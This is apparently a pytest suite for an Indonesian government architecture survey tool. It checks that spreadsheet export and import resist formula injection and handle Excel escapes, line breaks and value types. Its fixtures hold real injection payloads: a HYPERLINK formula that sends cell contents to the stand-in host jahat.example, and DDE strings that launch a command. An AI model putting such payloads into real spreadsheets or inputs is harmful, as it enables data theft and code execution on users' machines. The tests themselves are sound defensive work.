"""Values through the forms: text is never a formula, escapes and line breaks, exact types.

OWASP formula injection both ways (a model value starting with ``=``, ``+``, ``-``, ``@``, tab
or CR is written as text data, never a ``<f>`` formula); a formula typed into a returned form
imports its cached value or is refused at its place, never read as empty; Excel's ``_xHHHH_``
escapes; U+0085, U+2028 and CR; every field keeps exactly the value typed.
"""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from spbe_arch.load import load
from spbe_arch.survei.impor import HasilImpor, impor
from spbe_arch.survei.tulis import Berkas
from survei_kit import NOW, TODAY, baris_id, buat, buka, isi, kolom, salin_contoh, snapshot
from workbook_kit import anggota, lembar_member, tulis_zip

BERACUN = {
    "nama": '=HYPERLINK("http://jahat.example/?"&A1,"Klik")',
    "uraian": "+cmd|' /C calc'!A0",
    "fungsi": "@SUM(1+1)*cmd|' /C calc'!A0",
    "kementerian_lembaga": "-2+3+cmd|' /C calc'!A0",
    "potensi_risiko": "\tTab di depan",
    "mitigasi": "Teks dengan _x000D_ harfiah dan _x005F_ juga",
}


def _set(root: Path, rel: str, index: int, values: dict[str, object]) -> None:
    path = root / rel
    berkas = Berkas(rel, path.read_text(encoding="utf-8"))
    berkas.ubah("layanan", index, values, list(values))
    path.write_text(berkas.teks(), encoding="utf-8")


@pytest.fixture
def beracun(tmp_path: Path) -> tuple[Path, Path]:
    root = salin_contoh(tmp_path / "model")
    _set(root, "dinkes/layanan.yaml", 0, BERACUN)
    (form,) = buat(root, tmp_path / "out", "DINKES")
    return root, form


def _impor(root: Path, *files: Path) -> HasilImpor:
    return impor(root, list(files), now=NOW, today=TODAY)


def test_model_text_is_written_as_text_never_as_formula(beracun: tuple[Path, Path]) -> None:
    _, form = beracun
    members = anggota(form)
    for name, data in members.items():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in data and b"<f " not in data, name
    sst = members["xl/sharedStrings.xml"].decode()
    assert "=HYPERLINK(" in sst  # stored as shared text
    wb = load_workbook(form)
    ws = wb["Layanan"]
    row = baris_id(ws, "DAL-DINKES-01")
    for field, header in (("nama", "Nama Layanan"), ("uraian", "Uraian"), ("fungsi", "Fungsi")):
        cell = ws.cell(row=row, column=kolom(ws, header))
        assert cell.data_type == "s" and cell.value == BERACUN[field]
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited
    mitigasi = ws.cell(row=row, column=kolom(ws, "Mitigasi")).value
    assert "_x005F_x000D_" in members["xl/sharedStrings.xml"].decode()
    del mitigasi  # openpyxl does not decode escapes; our reader does (next test)


def test_unchanged_poisoned_form_imports_as_no_change(beracun: tuple[Path, Path]) -> None:
    root, form = beracun
    before = snapshot(root)
    result = _impor(root, form)
    assert (result.baru, result.diubah) == (0, 0) and not result.gagal
    after = snapshot(root)
    assert {k: v for k, v in after.items() if k in before} == before
    element = load(root).model.elemen["DAL-DINKES-01"]
    for field, value in BERACUN.items():
        assert getattr(element, field) == value.strip()  # the model's text type trims


def test_regenerated_form_keeps_an_imported_formula_as_text(tmp_path: Path) -> None:
    root = salin_contoh(tmp_path / "model")
    (form,) = buat(root, tmp_path / "out", "DINKES")
    payload = "=cmd|' /C calc'!A0"
    _sel_mentah(form, "Fungsi", f'<c r="REF" t="inlineStr"><is><t>{payload}</t></is></c>')
    header = "Fungsi"
    result = _impor(root, form)
    assert result.diubah == 1, [t.text() for t in result.temuan]
    (again,) = buat(root, tmp_path / "out2", "DINKES")
    sheet = anggota(again)[lembar_member(again, "Layanan")]
    assert b"<f>" not in sheet
    ws = load_workbook(again)["Layanan"]
    cell = ws.cell(row=2, column=kolom(ws, str(header)))
    assert cell.value == payload and cell.data_type == "s"


def _sel_mentah(form: Path, header: str, raw_cell: str, row: int = 2) -> None:
    """Replace one cell of the Layanan sheet with raw SpreadsheetML."""
    from openpyxl.utils import get_column_letter

    col = get_column_letter(kolom(load_workbook(form)["Layanan"], header))
    members = anggota(form)
    member = lembar_member(form, "Layanan")
    xml = members[member].decode()
    new, count = re.subn(
        rf'<c r="{col}{row}"[^>]*?(/>|>.*?</c>)',
        raw_cell.replace("REF", f"{col}{row}"),
        xml,
        count=1,
    )
    assert count == 1
    members[member] = new.encode()
    tulis_zip(form, members)


def test_formula_without_cached_value_keeps_the_field(beracun: tuple[Path, Path]) -> None:
    root, form = beracun
    _sel_mentah(form, "Fungsi", '<c r="REF"><f>CONCAT("a","b")</f></c>')
    result = _impor(root, form)
    found = [(t.lembar, t.baris, t.kolom) for t in result.temuan if t.kode == "SURVEI-B01"]
    assert found == [("Layanan", 2, "Fungsi")] and result.gagal
    assert load(root).model.elemen["DAL-DINKES-01"].fungsi == BERACUN["fungsi"]  # type: ignore[attr-defined]


def test_formula_with_cached_value_imports_the_value(beracun: tuple[Path, Path]) -> None:
    root, form = beracun
    _sel_mentah(form, "Fungsi", '<c r="REF" t="str"><f>CONCAT("a","b")</f><v>Rujukan cepat</v></c>')
    result = _impor(root, form)
    assert result.diubah == 1
    assert load(root).model.elemen["DAL-DINKES-01"].fungsi == "Rujukan cepat"  # type: ignore[attr-defined]


def test_error_cell_is_refused_at_its_place(beracun: tuple[Path, Path]) -> None:
    root, form = beracun
    _sel_mentah(form, "Fungsi", '<c r="REF" t="e"><f>1/0</f><v>#DIV/0!</v></c>')
    (refused,) = _impor(root, form).ditolak
    assert "lembar 'Layanan' › sel" in refused.text() and "#DIV/0!" in refused.text()


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Baris satu_x000D_\nbaris dua", "Baris satu\nbaris dua"),
        ("Baris satu_x000D_baris dua", "Baris satu\nbaris dua"),
        ("Baris satu\u0085baris dua", "Baris satu\nbaris dua"),
        ("Baris satu\u2028baris dua", "Baris satu\nbaris dua"),
        ("Harfiah _x005F_x000D_ tetap", "Harfiah _x000D_ tetap"),
    ],
)
def test_line_breaks_and_excel_escapes(tmp_path: Path, raw: str, expected: str) -> None:
    root = salin_contoh(tmp_path / "model")
    (form,) = buat(root, tmp_path / "out", "DINKES")
    _sel_mentah(
        form, "Fungsi", f'<c r="REF" t="inlineStr"><is><t xml:space="preserve">{raw}</t></is></c>'
    )
    result = _impor(root, form)
    assert result.diubah == 1, [t.text() for t in result.temuan]
    assert load(root).model.elemen["DAL-DINKES-01"].fungsi == expected  # type: ignore[attr-defined]
    again = _impor(root, form)
    assert (again.baru, again.diubah) == (0, 0)


def test_control_character_in_a_cell_refuses_the_row(tmp_path: Path) -> None:
    root = salin_contoh(tmp_path / "model")
    (form,) = buat(root, tmp_path / "out", "DINKES")
    _sel_mentah(form, "Fungsi", '<c r="REF" t="inlineStr"><is><t>a_x001B_[31mmerah</t></is></c>')
    before = (root / "dinkes/layanan.yaml").read_bytes()
    result = _impor(root, form)
    assert [(t.baris, t.kolom) for t in result.temuan if t.kode == "SURVEI-B04"] == [(2, "Fungsi")]
    assert (root / "dinkes/layanan.yaml").read_bytes() == before


def test_typed_values_keep_their_type(tmp_path: Path) -> None:
    root = salin_contoh(tmp_path / "model")
    (form,) = buat(root, tmp_path / "out", "DINKES")
    wb = buka(form)
    ws = wb["Layanan"]
    row = baris_id(ws, "DAL-DINKES-01")
    isi(ws, row, {"Fungsi": 2026, "Tahun Mulai": "2024", "Uraian": "  0012  "})
    wb.save(form)
    _impor(root, form)
    element = load(root).model.elemen["DAL-DINKES-01"]
    assert element.fungsi == "2026" and element.uraian == "0012"  # type: ignore[attr-defined]
    assert element.tahun_mulai == 2024  # type: ignore[attr-defined]


def test_long_value_round_trips_through_its_digest(tmp_path: Path) -> None:
    root = salin_contoh(tmp_path / "model")
    long = "Uraian panjang. " * 400
    _set(root, "dinkes/layanan.yaml", 0, {"uraian": long.strip()})
    (form,) = buat(root, tmp_path / "out", "DINKES")
    with zipfile.ZipFile(form) as zf:
        assert "sha256:" in zf.read("xl/sharedStrings.xml").decode()
    assert _impor(root, form).diubah == 0
    wb = buka(form)
    ws = wb["Layanan"]
    isi(ws, baris_id(ws, "DAL-DINKES-01"), {"Uraian": "Pendek saja"})
    wb.save(form)
    assert _impor(root, form).diubah == 1
    assert load(root).model.elemen["DAL-DINKES-01"].uraian == "Pendek saja"  # type: ignore[attr-defined]
    shutil.rmtree(tmp_path / "out")


@pytest.mark.parametrize("separator", ["\n", "\r\n"])
def test_model_line_separators_round_trip_unchanged(tmp_path: Path, separator: str) -> None:
    root = salin_contoh(tmp_path / "model")
    _set(root, "dinkes/layanan.yaml", 0, {"fungsi": f"Baris satu{separator}baris dua"})
    loaded = load(root).model.elemen["DAL-DINKES-01"].fungsi  # type: ignore[attr-defined]
    (form,) = buat(root, tmp_path / "out", "DINKES")
    before = snapshot(root)
    result = _impor(root, form)
    assert not [t.text() for t in result.temuan if t.tingkat == "error"]
    assert (result.baru, result.diubah) == (0, 0)
    assert {k: v for k, v in snapshot(root).items() if k in before} == before
    assert load(root).model.elemen["DAL-DINKES-01"].fungsi == loaded  # type: ignore[attr-defined]


def test_many_long_values_still_fit_one_hidden_cell(tmp_path: Path) -> None:
    root = salin_contoh(tmp_path / "model")
    fields = ("uraian", "fungsi", "tujuan", "mitigasi", "potensi_risiko", "kementerian_lembaga")
    _set(root, "dinkes/layanan.yaml", 0, {f: f"{f} " + "x" * 990 for f in fields})
    (form,) = buat(root, tmp_path / "out", "DINKES")
    ws = load_workbook(form)["Layanan"]
    hidden = ws.cell(row=baris_id(ws, "DAL-DINKES-01"), column=2).value
    assert isinstance(hidden, str) and len(hidden) < 32_767
    assert _impor(root, form).diubah == 0


def test_text_longer_than_a_cell_is_kept_unless_replaced(tmp_path: Path) -> None:
    root = salin_contoh(tmp_path / "model")
    huge = "Panjang. " * 4000
    _set(root, "dinkes/layanan.yaml", 0, {"uraian": huge.strip()})
    (form,) = buat(root, tmp_path / "out", "DINKES")
    ws = load_workbook(form)["Layanan"]
    shown = ws.cell(row=baris_id(ws, "DAL-DINKES-01"), column=kolom(ws, "Uraian")).value
    assert "lebih panjang dari satu sel Excel" in shown
    assert _impor(root, form).diubah == 0
    assert load(root).model.elemen["DAL-DINKES-01"].uraian == huge.strip()  # type: ignore[attr-defined]
